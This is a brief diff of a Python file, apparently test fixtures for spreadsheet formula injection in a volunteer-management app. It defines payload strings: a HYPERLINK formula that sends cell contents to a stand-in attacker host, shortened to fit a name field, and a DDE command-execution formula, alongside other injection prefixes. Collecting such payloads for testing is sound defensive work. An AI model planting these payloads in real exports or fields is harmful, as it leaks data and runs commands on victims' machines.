@@ -27,7 +27,7 @@ from volunteer.extensions import db
 
 CST = timezone(timedelta(hours=8))
 PERIOD = "2026Q1"
-HYPERLINK = '=HYPERLINK("https://evil.example/?p="&C4,"点击查看")'
+HYPERLINK = '=HYPERLINK("//ev.il/?"&C4,"看")'  # fits a name (30 characters)
 PAYLOADS = [HYPERLINK, "+1", "-1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "＝1+1",
             "=cmd|' /C calc'!A0"]
 SPREADSHEET_SUFFIXES = (".xlsx", ".xlsm", ".xls", ".ods", ".csv", ".tsv")
